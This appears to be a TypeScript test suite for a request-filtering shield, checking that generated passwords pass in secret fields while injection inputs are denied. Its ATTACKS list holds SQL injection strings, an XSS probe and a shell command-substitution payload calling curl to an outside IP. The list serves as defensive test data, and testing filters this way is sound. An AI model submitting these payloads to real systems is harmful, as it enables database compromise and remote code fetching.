import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Decision } from "@parapet/core";
import { isSecretField, looksGenerated } from "../src/generated-secret.js";
import { shieldDecision } from "./helpers.js";

// Passwords from generators (full printable set, as KeePass and 1Password offer it; Bitwarden's `!@#$%^&*`) that the
// shield denied on a login before: 1.3% of full-set and 0.3% of Bitwarden-style passwords, each one a user locked out.
const GENERATED = [
  'N#gY&(odZr~h6">"q',
  "@A8Q6*1wbp`$C(EP",
  ";Xd$+s1g)81YUwEb$",
  "&dp$m9gDFtuvDhWssz",
  "3gZlzZY5InW7&DD",
  "KSJgT0@dDD0X^@@",
  'R<%m"(0j4;*1O9i6{',
  "Mv;3v7]XnwLsXH@4",
  'ccM"*6^$B$cr.M#z>#q',
];
// What an attacker types into a password field: lower or upper case words, spaces, SQL or shell vocabulary.
const ATTACKS = [
  "' or '1'='1",
  "admin'--",
  "1'or'1'='1'--",
  "' OR 1=1#",
  "'||'1'='1",
  "x' UNION SELECT password FROM users--",
  "Pa55'; DROP TABLE users;--",
  "$(curl http://203.0.113.9/x)",
  "<script>alert(1)</script>",
];

function login(field: string, password: string): Promise<Decision> {
  return shieldDecision(
    new Request("http://app.test/login", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ username: "alice", [field]: password }),
    }),
  );
}

describe("generated passwords in secret fields", () => {
  it("recognises generated passwords, and not attacks or prose, by their shape", () => {
    for (const value of GENERATED) assert.ok(looksGenerated(value), value);
    for (const value of [...ATTACKS, "correct horse battery staple", "SeLeCt*FrOm9x!", "aB3$onerrorXy", "short1!A"]) {
      assert.equal(looksGenerated(value), false, value);
    }
  });

  it("names secret fields: password, passwd, pwd, passphrase, secret, but not passport or bypass", () => {
    const names = ["password", "newPassword", "confirm_password", "passwd", "pwd", "user_pwd", "passphrase", "client_secret", "pass"];
    for (const name of [...names, "pass2", "pw", "Passwort", "mot_de_passe", "contrasena", "senha", "wachtwoord"])
      assert.ok(isSecretField(name), name);
    for (const name of ["passport", "bypass", "compass", "comment", "secretary", "q", undefined])
      assert.equal(isSecretField(name), false, String(name));
  });

  it("lets generated passwords log in, and denies the same strings in other fields", async () => {
    for (const value of GENERATED) {
      const decision = await login("password", value);
      assert.equal(decision.conclusion, "ALLOW", `${value}: ${decision.reason.message}`);
    }
    let deniedElsewhere = 0;
    for (const value of GENERATED) if ((await login("comment", value)).isDenied()) deniedElsewhere++;
    assert.ok(deniedElsewhere >= GENERATED.length - 1, `only ${deniedElsewhere} denied outside a secret field`);
  });

  it("still denies attacks typed into a password field", async () => {
    for (const value of ATTACKS) {
      const decision = await login("password", value);
      assert.equal(decision.conclusion, "DENY", value);
    }
  });

  it("denies few of 2,000 generated passwords (seeded): at most 0.2% of Bitwarden-style ones", async () => {
    const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*";
    let state = 0x9e3779b9;
    const next = () => {
      // xorshift32: the same passwords on every run, so the count is a fact about the detectors, not luck.
      state ^= state << 13;
      state ^= state >>> 17;
      state ^= state << 5;
      return (state >>> 0) / 2 ** 32;
    };
    let denied = 0;
    for (let i = 0; i < 2_000; i++) {
      let password = "";
      const length = 12 + Math.floor(next() * 9);
      for (let j = 0; j < length; j++) password += alphabet[Math.floor(next() * alphabet.length)];
      if ((await login("password", password)).isDenied()) denied++;
    }
    assert.ok(denied <= 4, `${denied} of 2,000 denied`);
  });
});
